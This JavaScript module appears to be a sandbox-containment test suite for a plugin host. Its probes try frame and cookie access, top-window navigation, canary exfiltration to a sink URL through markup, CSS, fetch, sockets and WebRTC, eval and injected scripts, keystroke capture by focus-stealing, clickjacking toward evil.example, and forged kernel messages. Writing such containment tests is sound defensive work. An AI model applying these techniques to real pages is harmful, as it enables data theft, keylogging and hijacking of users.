/* global document, window, navigator, top, parent, location, history */
// Each is let loose by a click of the person, so that it has what a click allows; it answers with what it got.

/** Tries everything and keeps what came back; a refusal is nothing. */
async function tried(works) {
  const got = [];
  for (const [name, work] of Object.entries(works)) {
    const late = new Promise(resolve => setTimeout(resolve, 700));
    try {
      const answer = await Promise.race([work(), late]);
      if (answer) got.push(`${name}: ${String(answer).slice(0, 60)}`);
    } catch {
      // Refused, as it should be.
    }
  }
  return got;
}
const put = (markup, where = document.body) => {
  const box = document.createElement('div');
  box.innerHTML = markup;
  where.append(...box.childNodes);
};
const wait = ms => new Promise(resolve => setTimeout(resolve, ms));

export const attacks = {
  'read-the-page': {
    tries: 'read and change the document of the app, its globals, its storage and the frames beside it',
    run: () =>
      tried({
        parent: () => parent.document.title,
        top: () => top.document.cookie,
        opener: () => window.opener?.document.title,
        frames: () => parent.frames[0].document.title,
        element: () => window.frameElement?.tagName,
        storage: () => localStorage.length + 1,
        session: () => sessionStorage.length + 1,
        cookie: () => {
          // biome-ignore lint/suspicious/noDocumentCookie: whether it can be set is the question.
          document.cookie = 'a=canary';
          return document.cookie;
        },
        database: () =>
          new Promise((resolve, reject) => Object.assign(indexedDB.open('x'), { onsuccess: () => resolve('opened'), onerror: reject })),
        caches: () => caches.keys().then(() => 'caches'),
      }),
  },
  'leave-the-app': {
    tries: 'take the window to another page: by address, link, form, history and a new name',
    run: ({ sink }) =>
      tried({
        assign: () => void Object.assign(top, { location: `${sink}/top` }),
        replace: () => top.location.replace(`${sink}/top`),
        named: () => window.open(`${sink}/top`, '_top'),
        parent: () => window.open(`${sink}/top`, '_parent'),
        link: () => {
          put(`<a id="out" target="_top" href="${sink}/top-link">x</a>`);
          HTMLElement.prototype.click.call(document.getElementById('out'));
        },
        form: () => {
          put(`<form id="form" target="_top" action="${sink}/top-form"><input name="a"></form>`);
          HTMLFormElement.prototype.submit.call(document.getElementById('form'));
        },
        back: () => void top.history.back(),
      }),
  },
  'open-windows': {
    tries: 'open windows, downloads and choosers of files with the person’s own click',
    run: ({ sink }) =>
      tried({
        window: () => window.open(`${sink}/popup`) && 'a window',
        blank: () => window.open('about:blank', '_blank', 'popup') && 'a window',
        download: () => {
          put('<a id="save" download="evil.sh" href="data:text/plain,x">x</a>');
          HTMLElement.prototype.click.call(document.getElementById('save'));
        },
        open: () => window.showOpenFilePicker().then(() => 'a chooser'),
        save: () => window.showSaveFilePicker().then(() => 'a chooser'),
        folder: () => window.showDirectoryPicker().then(() => 'a chooser'),
        print: () => void window.print(),
        alert: () => (window.confirm('Give me your password') ? 'a dialog' : undefined),
        prompt: () => window.prompt('Password'),
      }),
  },
  'carry-out-by-markup': {
    tries: 'carry data out in the address of an image, a medium, a frame, a link, an SVG or a refresh',
    async run({ sink }) {
      const out = (kind, markup) => put(markup.replaceAll('SINK', `${sink}/${kind}?canary-4711`));
      out('img', '<img src="SINK"><img srcset="SINK 2x"><picture><source srcset="SINK"><img></picture><input type="image" src="SINK">');
      out(
        'media',
        '<video src="SINK" poster="SINK" autoplay></video><audio src="SINK" autoplay></audio><video><track default src="SINK"><source src="SINK"></video>',
      );
      out(
        'frame',
        '<iframe src="SINK"></iframe><iframe srcdoc="<img src=SINK><script src=SINK></script>"></iframe><embed src="SINK"><object data="SINK"></object>',
      );
      out(
        'svg',
        '<svg><image href="SINK"/><use href="SINK#a"/><filter id="f"><feImage href="SINK"/></filter><rect filter="url(SINK#f)" width="9" height="9"/></svg>',
      );
      out('table', '<table background="SINK"><tr><td background="SINK">x</td></tr></table><body background="SINK">');
      out('ping', '<a id="ping" ping="SINK" href="#here">x</a>');
      document.getElementById('ping').click();
      for (const rel of [
        'stylesheet',
        'icon',
        'manifest',
        'prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'preconnect',
        'dns-prefetch',
        'search',
        'next',
      ])
        document.head.append(Object.assign(document.createElement('link'), { rel, href: `${sink}/link-${rel}?canary-4711`, as: 'image' }));
      document.head.append(Object.assign(document.createElement('base'), { href: `${sink}/base/` }));
      document.body.append(Object.assign(new Image(), { src: 'relative.png' }));
      const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
      rules.textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [`${sink}/rules`] }],
        prerender: [{ source: 'list', urls: [`${sink}/rules`] }],
      });
      document.head.append(rules);
      await wait(1000);
      return [];
    },
  },
  'carry-out-by-style': {
    tries: 'carry data out in the addresses of fonts, pictures and imports of styles',
    async run({ sink }) {
      const url = kind => `url("${sink}/${kind}?canary-4711")`;
      put(`<style>@import ${url('import')}; @font-face { font-family: x; src: ${url('font')}; } body { font-family: x; background: ${url('background')}; cursor: ${url('cursor')}, auto;
        list-style-image: ${url('list')}; border-image: ${url('border')}; mask: ${url('mask')}; filter: ${url('filter')}; } body::before { content: ${url('content')}; }
        body:has(input[value^="c"]) { background-image: image-set(${url('set')} 1x); } @namespace ${url('namespace')};</style><input value="canary">`);
      const sheet = new CSSStyleSheet();
      await sheet.replace(`body { background: ${url('sheet')} }`).catch(() => undefined);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      await new FontFace('y', url('face')).load().catch(() => undefined);
      await wait(700);
      return [];
    },
  },
  'carry-out-by-script': {
    tries: 'carry data out by fetch, beacon, sockets, streams, imports, workers and calls to other browsers',
    run: ({ sink, stun }) =>
      tried({
        fetch: () => fetch(`${sink}/fetch`, { mode: 'no-cors', keepalive: true }).then(() => 'sent'),
        app: () => fetch(new URL('/', document.referrer || location.href), { credentials: 'include' }).then(() => 'read the app'),
        beacon: () => void navigator.sendBeacon(`${sink}/beacon`, 'canary'),
        socket: () =>
          new Promise((resolve, reject) =>
            Object.assign(new WebSocket(sink.replace('http', 'ws')), { onopen: () => resolve('open'), onerror: reject }),
          ),
        events: () =>
          new Promise((resolve, reject) =>
            Object.assign(new EventSource(`${sink}/events`), { onopen: () => resolve('open'), onerror: reject }),
          ),
        transport: () => new WebTransport(sink.replace('http', 'https')).ready.then(() => 'open'),
        import: () => import(`${sink}/import.js`).then(() => 'imported'),
        worker: () => new Worker(URL.createObjectURL(new Blob([`fetch('${sink}/worker')`]))) && wait(300),
        shared: () => new SharedWorker('data:text/javascript,1') && 'shared',
        service: () => navigator.serviceWorker.register('./attacks.mjs').then(() => 'registered'),
        peer: async () => {
          const call = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
          call.createDataChannel('x');
          await call.setLocalDescription(await call.createOffer());
          await wait(500);
        },
        channel: () =>
          new Promise(resolve => {
            const heard = new BroadcastChannel('atelier');
            heard.onmessage = () => resolve('heard another');
            heard.postMessage('x');
          }),
      }),
  },
  'load-foreign-code': {
    tries: 'run code that is not in its package: inline, from text, by import map, from data and blob addresses',
    run: ({ sink }) =>
      tried({
        // biome-ignore lint/security/noGlobalEval: whether it can be called is the question.
        eval: () => eval('"ran"'),
        function: () => new Function('return "ran"')(),
        timer: () =>
          new Promise(resolve => {
            window.ran = resolve;
            setTimeout('ran("ran")');
          }),
        inline: () => {
          const script = document.createElement('script');
          script.textContent = 'window.inline = "ran"';
          document.head.append(script);
          return window.inline;
        },
        attribute: () => {
          put('<img src="x" onerror="window.handler = 1"><svg onload="window.handler = 1">');
          return wait(200).then(() => window.handler);
        },
        data: () => import('data:text/javascript,export default 1').then(() => 'ran'),
        blob: () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))).then(() => 'ran'),
        wasm: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && 'compiled',
        map: () => {
          const map = Object.assign(document.createElement('script'), { type: 'importmap' });
          map.textContent = JSON.stringify({ imports: { lit: `${sink}/lit.js` } });
          document.head.append(map);
        },
        script: () => {
          document.head.append(Object.assign(document.createElement('script'), { src: `${sink}/script.js` }));
        },
      }),
  },
  'take-the-screen': {
    tries: 'take the screen, the pointer, the keyboard, the camera, the place and the clipboard with the person’s click',
    run: () =>
      tried({
        full: () => document.documentElement.requestFullscreen().then(() => 'full screen'),
        pointer: () => document.body.requestPointerLock().then(() => 'pointer'),
        keyboard: () => navigator.keyboard.lock().then(() => 'keyboard'),
        read: () => navigator.clipboard.readText().then(text => text || 'read'),
        write: () => navigator.clipboard.writeText('canary').then(() => 'written'),
        paste: () => document.execCommand('paste') && 'pasted',
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'camera'),
        screen: () => navigator.mediaDevices.getDisplayMedia().then(() => 'screen'),
        place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('place'), reject)),
        notify: () => Notification.requestPermission().then(answer => (answer === 'granted' ? answer : undefined)),
        usb: () => navigator.usb.requestDevice({ filters: [] }).then(() => 'usb'),
        wake: () => navigator.wakeLock.request('screen').then(() => 'awake'),
        picture: () => window.documentPictureInPicture.requestWindow().then(() => 'a window'),
        idle: () => window.IdleDetector.requestPermission().then(answer => (answer === 'granted' ? answer : undefined)),
        fonts: () => window.queryLocalFonts().then(fonts => fonts.length),
        pay: () =>
          new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } })
            .show()
            .then(() => 'paid'),
      }),
  },
  'steal-focus': {
    tries: 'take the focus again and again while the person types into the app, and read the keys',
    typing: true,
    async run() {
      const field = document.body.appendChild(document.createElement('input'));
      const heard = [];
      window.addEventListener('keydown', event => heard.push(event.key), true);
      const timer = setInterval(() => {
        window.focus();
        field.focus();
        field.click();
      }, 5);
      await wait(3000);
      clearInterval(timer);
      const keys = heard.join('') + field.value;
      return keys === '' ? [] : [`the keys ${keys}`];
    },
  },
  'draw-over': {
    tries: 'draw over the question of the app whether an address may be opened, and press its button',
    dialog: true,
    async run({ view }) {
      view.open('https://evil.example/').catch(() => undefined);
      put(
        '<div popover="manual" id="over" style="position:fixed;inset:-9999px;width:99999px;height:99999px;z-index:2147483647;background:red">Cancel</div><dialog id="modal" style="inset:-99px">x</dialog>',
      );
      document.getElementById('over').showPopover();
      document.getElementById('modal').showModal();
      document.documentElement.style.cssText = 'position:fixed;inset:-9999px;zoom:50';
      await wait(300);
      return [];
    },
  },
  'forge-messages': {
    tries: 'speak to the page as the kernel, the window or another frame',
    run: ({ sink }) =>
      tried({
        start: () => {
          const { port1, port2 } = new MessageChannel();
          parent.postMessage({ kind: 'atelier:start', view: { id: 'workbench.home' }, from: '@atelier/workbench' }, '*', [port2]);
          return new Promise(resolve => {
            port1.onmessage = ({ data }) => resolve(JSON.stringify(data));
          });
        },
        frame: () =>
          parent.postMessage(
            { v: 1, id: 1, kind: 'call', to: 'kernel:grantRights', body: { id: '@hostile/forge-messages', rights: { notify: true } } },
            '*',
          ),
        open: () => parent.postMessage({ kind: 'openExternal', url: sink }, '*'),
      }),
  },
  'spend-history': {
    tries: 'change the address of the app and fill its history, so that there is no way back',
    async run() {
      for (let count = 0; count < 300; count += 1) {
        try {
          history.pushState({}, '', `#canary-${count}`);
        } catch {
          break;
        }
      }
      return tried({
        top: () => void Object.assign(top.location, { hash: 'canary' }),
        name: () => void Object.assign(window, { name: 'canary' }),
      });
    },
  },
};
